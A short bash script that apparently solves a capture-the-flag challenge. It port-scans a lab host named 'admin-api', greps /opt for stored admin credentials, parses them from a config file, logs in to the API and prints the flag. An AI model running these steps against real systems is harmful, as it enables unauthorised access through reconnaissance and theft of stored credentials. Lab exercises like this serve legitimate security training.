#!/bin/bash
set -euo pipefail
# --- step: find the listening port
python3 -c "
import socket
for p in range(8000, 9000):
    s = socket.socket(); s.settimeout(0.05)
    if s.connect_ex(('admin-api', p)) == 0: print(p); break
" | tee /tmp/port
# --- step: what does it offer?
python3 -c "import urllib.request; print(urllib.request.urlopen('http://admin-api:$(cat /tmp/port)/').read().decode())"
# --- step: credentials on disk
grep -r admin_ /opt 2>/dev/null
# --- step: log in and fetch the flag
python3 - <<'PY'
import json, re, urllib.request
port = open("/tmp/port").read().strip()
cfg = dict(re.findall(r"^(\w+) = (\S+)$", open("/opt/admin-api/config.ini").read(), re.M))
base = f"http://admin-api:{port}"
req = urllib.request.Request(base + "/api/v1/login", method="POST",
    data=json.dumps({"username": cfg["admin_user"], "password": cfg["admin_password"]}).encode(),
    headers={"Content-Type": "application/json"})
tok = json.load(urllib.request.urlopen(req))["token"]
req = urllib.request.Request(base + "/api/v1/flag", headers={"Authorization": f"Bearer {tok}"})
print(json.load(urllib.request.urlopen(req))["flag"])
PY
